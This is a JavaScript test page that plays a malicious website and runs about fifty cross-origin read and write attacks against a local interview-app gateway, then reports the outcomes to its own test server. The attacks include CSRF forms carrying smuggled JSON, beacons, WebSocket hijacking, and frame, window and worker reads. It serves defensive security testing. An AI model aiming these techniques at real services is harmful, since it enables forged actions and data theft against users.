// What a page that means harm can try against the gateway. Each attack gives what it could read
// (as "READ …") or how it failed. None may read; whether any wrote, the gateway's log tells.
const { gateway, own, interview, session, name } = GIVEN;
const api = gateway + "/api/v1";
const start = api + "/interviews/start";
const one = `${api}/interviews/${interview}`;
const wish = JSON.stringify({ role: "Software Engineer" });
const answer = JSON.stringify({ session, message: "Forged." });
const json = { "Content-Type": "application/json" };
const text = { "Content-Type": "text/plain" };

async function got(request) {
  const reply = await request;
  return reply.type === "opaque" ? "opaque" : `READ ${reply.status} ${await reply.text()}`;
}
const get = (url, more) => got(fetch(url, more));
const post = (url, body, headers, more) =>
  got(fetch(url, { method: "POST", body, headers, ...more }));

function xhr(method, url, body) {
  return new Promise((tell) => {
    const request = new XMLHttpRequest();
    request.onload = () => tell(`READ ${request.status} ${request.responseText}`);
    request.onerror = () => tell("refused");
    request.open(method, url);
    request.withCredentials = true;
    request.send(body);
  });
}

// An element that loads what it is pointed at.
function element(tag, set, kept = () => "loaded, and nothing to read") {
  return new Promise((tell) => {
    const made = Object.assign(document.createElement(tag), set);
    made.onload = () => tell(kept(made));
    made.onerror = () => tell("refused");
    document.body.append(made);
  });
}
const inFrame = (frame) => {
  try {
    return `READ ${frame.contentWindow.document.body.innerText}`;
  } catch (error) {
    return frame.contentWindow.length ? "READ frames in it" : error.name;
  }
};

let frames = 0;
function form(action, enctype, fields, method = "post") {
  const target = `${name}${frames++}`; // a name of its own: frames in frames are found too
  return element("iframe", { name: target }).then(() => {
    const frame = document.querySelector(`[name=${target}]`);
    const made = Object.assign(document.createElement("form"), { action, enctype, method, target });
    for (const [key, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement("input"), { name: key, value }));
    }
    document.body.append(made);
    return new Promise((tell) => {
      frame.onload = () => tell(inFrame(frame));
      made.submit();
    });
  });
}

function opened(url) {
  const made = window.open(url);
  return new Promise((tell) =>
    setTimeout(() => {
      if (!made) return tell("no window");
      try {
        tell(`READ ${made.document.body.innerText}`);
      } catch (error) {
        tell(error.name);
      }
      made.close();
    }, 1500),
  );
}

function socket(path) {
  return new Promise((tell) => {
    const made = new WebSocket(gateway.replace("http", "ws") + path);
    made.onopen = () => tell("READ an open socket");
    made.onmessage = (message) => tell(`READ ${message.data}`);
    made.onerror = () => tell("refused");
  });
}

function stream(url) {
  return new Promise((tell) => {
    const made = new EventSource(url);
    made.onopen = made.onmessage = () => tell("READ a stream");
    made.onerror = () => tell("refused") || made.close();
  });
}

function worker(code) {
  return new Promise((tell) => {
    const made = new Worker(URL.createObjectURL(new Blob([code])));
    made.onmessage = (message) => tell(message.data);
    made.onerror = () => tell("refused");
  });
}

async function serviceWorker() {
  const made = await navigator.serviceWorker.register("/worker.js");
  await navigator.serviceWorker.ready;
  const channel = new MessageChannel();
  made.active.postMessage({ start, wish, list: api + "/interviews" }, [channel.port2]);
  return new Promise((tell) => (channel.port1.onmessage = (message) => tell(message.data)));
}

const attacks = {
  "read by fetch": () => get(api + "/interviews"),
  "read health by fetch": () => get(gateway + "/health"),
  "read with credentials": () => get(one, { credentials: "include" }),
  "read without cors": () => get(one + "/events", { mode: "no-cors" }),
  "read with a head of its own": () => get(one, { headers: { "X-Requested-With": "x" } }),
  "read with a forged agent": () => get(one, { headers: { "User-Agent": "Electron/28.0.0" } }),
  "read without referrer": () => get(one, { referrerPolicy: "no-referrer", mode: "no-cors" }),
  "read by a redirect": () => get(own + "/to-list", { mode: "cors" }),
  "read by xhr": () => xhr("GET", api + "/interviews"),
  "read by a stream": () => stream(one + "/events"),
  "read by a script": () => element("script", { src: api + "/interviews" }),
  "read by a module": () => element("script", { src: one + "/events", type: "module" }),
  "read by a style": () => element("link", { href: one, rel: "stylesheet" }),
  "read by an image": () => element("img", { src: one + "/transcript?format=html" }),
  "read by an object": () => element("object", { data: one + "/transcript" }),
  "read by a frame": () => element("iframe", { src: one + "/transcript?format=html" }, inFrame),
  "read the docs by a frame": () => element("iframe", { src: gateway + "/docs" }, inFrame),
  "read by a window": () => opened(one + "/transcript?format=html"),
  "read the docs by a window": () => opened(gateway + "/docs"),
  "read by a worker": () =>
    worker(`fetch(${JSON.stringify(one)}).then((r) => r.text())
      .then((t) => postMessage("READ " + t), (e) => postMessage(e.name))`),
  "read by a worker's import": () =>
    worker(`importScripts(${JSON.stringify(one)}); postMessage("READ a script")`),
  "read a checkpoint by an image": () => element("img", { src: api + "/audit/checkpoint" }),
  "read a checkpoint by a window": () => opened(api + "/audit/checkpoint"),
  "write by fetch": () => post(start, wish, json),
  "write without cors": () => post(start, wish, text, { mode: "no-cors" }),
  "write as text": () => post(start, wish, text),
  "write as nothing": () => post(start, new Blob([wish]), {}),
  "write with credentials": () => post(start, wish, json, { credentials: "include" }),
  "write with a forged agent": () => post(start, wish, { ...json, "User-Agent": "Electron/28" }),
  "write a forged answer": () => post(api + "/interviews/respond", answer, text),
  "write a summary": () => post(api + "/interviews/summary", JSON.stringify({ session }), text),
  "write a hold": () => post(one + "/hold", JSON.stringify({ reason: "x" }), text),
  "write a selection": () => post(api + "/models/select?model_id=llama3.2:1b"),
  "write by a redirect": () => post(own + "/to-start", wish, text, { mode: "no-cors" }),
  "write by xhr": () => xhr("POST", start, wish),
  "write by a beacon": () => `sent: ${navigator.sendBeacon(start, wish)}`,
  "write a selection by a beacon": () =>
    `sent: ${navigator.sendBeacon(api + "/models/select?model_id=llama3.2:1b")}`,
  "write by a keepalive": () => post(start, wish, text, { keepalive: true, mode: "no-cors" }),
  "forget by fetch": () => got(fetch(one, { method: "DELETE" })),
  "forget by xhr": () => xhr("DELETE", one),
  "put by fetch": () => got(fetch(start, { method: "PUT", body: wish })),
  "write by a form as text": () =>
    form(start, "text/plain", { '{"role": "Software Engineer", "x": "': '"}' }),
  "write by a form": () => form(start, "application/x-www-form-urlencoded", { role: "x" }),
  "write by a form of parts": () => form(start, "multipart/form-data", { role: "x" }),
  "write a selection by a form": () =>
    form(api + "/models/select?model_id=llama3.2:1b", "text/plain", {}),
  "read a checkpoint by a form": () =>
    form(api + "/audit/checkpoint", "text/plain", { x: "y" }, "get"),
  "write a checkpoint by a form": () => form(api + "/audit/checkpoint", "text/plain", { x: "y" }),
  "write a checkpoint without cors": () =>
    post(api + "/audit/checkpoint", "", text, { mode: "no-cors" }),
  "write a checkpoint by a beacon": () =>
    `sent: ${navigator.sendBeacon(api + "/audit/checkpoint")}`,
  "socket at /": () => socket("/"),
  "socket at the docs": () => socket("/docs"),
  "socket at the list": () => socket("/api/v1/interviews"),
  "socket at an interview": () => socket(`/api/v1/interviews/${interview}/events`),
  "a service worker": serviceWorker,
};

async function outcomeOf(attack) {
  const late = new Promise((tell) => setTimeout(() => tell("no answer"), 4000));
  try {
    return await Promise.race([attack(), late]);
  } catch (error) {
    return error.name;
  }
}

addEventListener("load", async () => {
  const outcomes = {};
  const trying = Object.entries(attacks).map(async ([what, attack]) => {
    outcomes[what] = await outcomeOf(attack);
  });
  await Promise.all(trying);
  // A simple request: it is taken from any origin, "null" too.
  await fetch(`${own}/told?${name}`, {
    method: "POST",
    mode: "no-cors",
    body: JSON.stringify({ origin: self.origin, outcomes }),
  });
});
